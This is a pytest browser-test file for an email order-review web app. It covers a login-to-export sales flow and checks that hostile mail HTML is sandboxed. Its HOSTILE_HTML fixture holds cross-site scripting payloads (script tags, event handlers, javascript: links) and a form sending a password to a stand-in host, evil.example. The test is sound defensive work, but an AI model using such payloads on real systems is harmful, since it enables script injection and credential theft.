"""The review queue in real headless Chromium: the sales flow end to end, and hostile mail HTML never running."""
from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest
from sqlmodel import Session, select

from mailbot.store.models import Message
from tests.review.conftest import PASSWORDS, ingest_into_case, make_eml, make_po_pdf

pytestmark = pytest.mark.browser



def _sign_in(page, base: str, name: str = "anna") -> None:  # type: ignore[no-untyped-def]
    page.goto(base + "/")
    assert "/login" in page.url  # the gate sent us to the login page
    page.fill("input[name=username]", name)
    page.fill("input[name=password]", PASSWORDS[name])
    page.click("button[type=submit]")
    page.wait_for_url(base + "/")


def test_sales_flow_login_correct_approve_export_audit(page, live_server, review_app, po_case, screenshot_dir) -> None:  # type: ignore[no-untyped-def]
    base = live_server.url
    # A few more cases so the queue looks like a working day.
    ingest_into_case(review_app, make_eml(subject="PO PO-4712", body="Second order attached.",
                                          sender="purchasing@acme.test", name="ACME Industrial Supply",
                                          attachments=[("PO-4712.pdf", "application/pdf", make_po_pdf("PO-4712"))]))
    ingest_into_case(review_app, make_eml(subject="Enquiry: 5000 bolts M10", body="Can you quote 5000 bolts?",
                                          sender="info@newcustomer.test", name="New Customer Ltd"),
                     kind="enquiry")
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    page.on("console", lambda msg: errors.append(msg.text) if msg.type == "error" else None)
    _sign_in(page, base)

    row = page.locator("table.queue tbody tr", has_text="PO-4711")
    assert row.count() == 1
    assert "70.00 EUR" in row.inner_text()
    assert page.locator("table.queue tbody tr").first.inner_text().count("order") >= 1  # orders first
    page.set_viewport_size({"width": 1400, "height": 800})
    page.screenshot(path=str(screenshot_dir / "queue.png"), full_page=True)

    row.locator("a", has_text="PO-4711").click()
    page.wait_for_url(f"{base}/cases/{po_case}")
    frame = page.locator("iframe.pdf")
    assert frame.count() == 1
    # The PDF itself is served with the right type, inline, sandboxed.
    src = frame.get_attribute("src")
    resp = page.request.get(base + src)
    assert resp.headers["content-type"] == "application/pdf"
    assert resp.headers["content-disposition"].startswith("inline")
    assert "sandbox" in resp.headers["content-security-policy"]
    # Low-confidence fields are highlighted and carry their evidence on hover.
    low = page.locator("table.kv tr.low")
    assert low.count() >= 1
    assert page.locator("table.kv tr[title*='snippet']").count() >= 1
    page.set_viewport_size({"width": 1500, "height": 1100})
    page.wait_for_load_state("networkidle")
    page.wait_for_timeout(1500)  # let Chromium's PDF viewer paint before the screenshot (no assertion)
    page.screenshot(path=str(screenshot_dir / "order.png"), full_page=False)

    qty = page.locator("input[name='l.0.quantity']")
    assert qty.input_value() in ("100", "100.0")
    qty.fill("120")
    page.locator("form.doc-form button.save").first.click()
    page.wait_for_url(f"{base}/cases/{po_case}")
    assert "Saved 1 change" in page.locator(".flash").inner_text()
    assert page.locator("input[name='l.0.quantity']").input_value() == "120"

    page.locator("#approve-form button").click()
    page.wait_for_url(f"{base}/cases/{po_case}")
    assert page.locator("#review-status").inner_text().startswith("approved")

    audit = page.locator("#audit tbody tr", has_text="line_items[1].quantity")
    assert audit.count() == 1
    assert audit.locator(".actor").inner_text() == "anna"
    assert audit.locator(".old").inner_text() in ("100", "100.0")
    assert audit.locator(".new").inner_text() == "120"
    assert page.locator("#audit tbody tr", has_text="approve").locator(".actor").inner_text() == "anna"

    page.goto(base + "/")
    with page.expect_download() as info:
        page.click("#export-csv")
    path = info.value.path()
    rows = list(csv.DictReader(io.StringIO(Path(path).read_text(encoding="utf-8-sig"))))
    mine = [r for r in rows if r["order_number"] == "PO-4711"]
    assert [r["quantity"] for r in mine][:1] == ["120"]
    assert {r["review_status"] for r in rows} == {"approved"}
    assert "PO-4712" not in {r["order_number"] for r in rows}  # still pending: not exported
    assert not errors, errors  # no CSP violation or script error on any page


HOSTILE_HTML = """<html><head><meta http-equiv="refresh" content="0;url=javascript:window.top.__pwned=9">
<script>window.top.__pwned = 1; window.__pwned = 1; top.document.title = "pwned"; alert("script")</script></head>
<body onload="window.top.__pwned = 2; alert('onload')">
<p id="greeting">Hello partner, please see our order.</p>
<img src="x" onerror="window.top.__pwned = 3; alert('onerror')">
<svg onload="alert('svg')"></svg>
<a id="jslink" href="javascript:window.top.__pwned = 4; alert('js link')">click me</a>
<iframe src="javascript:alert('frame')"></iframe>
<form action="https://evil.example/steal"><input name="pw"></form>
</body></html>"""


def test_hostile_mail_html_never_runs(page, live_server, review_app) -> None:  # type: ignore[no-untyped-def]
    raw = make_eml(subject="Order with hostile HTML", body="Hello partner (plain text)", html=HOSTILE_HTML)
    case_id = ingest_into_case(review_app, raw)
    with Session(review_app.engine) as session:
        message_pk = session.exec(select(Message.id).where(Message.case_id == case_id)).first()
    dialogs: list[str] = []
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    base = live_server.url
    _sign_in(page, base)
    page.goto(f"{base}/cases/{case_id}")
    title = page.title()
    mail = page.locator("iframe.mail-html")
    assert mail.get_attribute("sandbox") == ""  # no allow-scripts, no same-origin
    body = page.frame_locator("iframe.mail-html")
    assert "Hello partner, please see our order." in body.locator("body").inner_text()
    # The javascript: link lost its href; clicking it does nothing.
    link = body.locator("a", has_text="click me")
    assert (link.get_attribute("href") or "").startswith("javascript:") is False
    link.click()
    assert body.locator("script").count() == 0 and body.locator("[onerror], [onload]").count() == 0
    page.wait_for_timeout(500)  # give any event handler time to have fired (not a timing assertion)
    assert page.evaluate("window.__pwned") is None
    assert page.title() == title and "pwned" not in title
    # Opened directly (not framed), the route's own CSP still forbids every script.
    page.goto(f"{base}/messages/{message_pk}/body.html")
    page.wait_for_timeout(300)
    assert page.evaluate("window.__pwned") is None
    assert dialogs == []
